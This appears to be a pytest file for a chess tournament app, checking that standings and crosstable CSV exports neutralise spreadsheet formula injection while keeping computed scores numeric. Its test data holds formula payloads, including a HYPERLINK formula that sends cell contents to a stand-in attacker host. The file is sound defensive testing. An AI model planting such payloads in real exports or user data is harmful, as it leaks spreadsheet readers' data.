"""CSV exports (standings, crosstable) cannot attack their reader: formula-like names and clubs
are neutralised (core.csvsafe); the figures the code computes stay numbers."""

from __future__ import annotations

import csv
import io

import pytest

from players.models import Player
from tests.tournaments.test_services import finish_games, running_tournament
from tournaments import selectors, services

pytestmark = pytest.mark.django_db

NASTY = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "@SUM(A1)", "-2+3"]


def _tournament(director):
    players = [Player.objects.create(name=name, club=f"={i}+{i}", rating=2000 - i)
               for i, name in enumerate(NASTY, start=1)]
    tournament = running_tournament(director, players, opening="go-as-you-please")
    round_ = services.round_pair(acting_user=director, tournament=tournament)
    services.match_forfeit_set(acting_user=director, tournament=tournament, number=round_.number, board=1,
                               winner=None, reason="neither came")
    services.round_publish(acting_user=director, tournament=tournament, number=round_.number)
    finish_games(director, tournament, round_)
    return tournament


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_standings_csv_neutralises_names_and_clubs_and_keeps_numbers(director):
    tournament = _tournament(director)
    header, *rows = _rows(selectors.standings_csv(tournament))
    assert {row[header.index("player")] for row in rows} == {"'" + name for name in NASTY}
    assert all(row[header.index("club")].startswith("'=") for row in rows)
    by_name = {row[2]: row for row in rows}
    for r in selectors.standings(tournament):
        row = by_name["'" + r.player.name]
        assert row[0] == str(r.rank) and row[1] == str(r.player.pk)
        assert float(row[header.index("points")]) == r.points  # a plain number, no quote
        assert float(row[header.index("game_points")]) == r.game_points


def test_crosstable_csv_neutralises_names_and_keeps_its_marks(director):
    tournament = _tournament(director)
    header, *rows = _rows(selectors.crosstable_csv(tournament))
    assert {row[1] for row in rows} == {"'" + name for name in NASTY}
    _rows_, table = selectors.crosstable(tournament)
    for row, expected in zip(rows, table, strict=True):
        assert row[3:-1] == list(expected.cells)  # "-" of the double forfeit, "x", scores: unchanged
        assert row[-1] == str(expected.number)
        assert float(row[2]) == expected.points
    assert any(cell == "-" for row in rows for cell in row[3:-1])


def test_the_csv_endpoints_serve_the_neutralised_files(director):
    from rest_framework.test import APIClient

    tournament = _tournament(director)
    client = APIClient()
    for name in ("standings.csv", "crosstable.csv"):
        response = client.get(f"/api/v1/tournaments/{tournament.slug}/{name}")
        assert response.status_code == 200
        cells = {cell for row in _rows(response.content.decode()) for cell in row}
        assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
        assert "'-2+3" in cells and "'+1+1" in cells
